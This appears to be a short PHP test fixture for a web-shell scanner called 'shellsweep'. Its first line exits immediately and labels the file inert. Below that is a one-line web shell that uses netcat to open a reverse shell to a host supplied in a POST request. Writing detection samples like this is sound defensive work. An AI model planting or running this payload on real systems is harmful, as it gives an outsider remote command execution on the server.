<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
system('nc -e /bin/sh ' . $_POST['host'] . ' 9001');
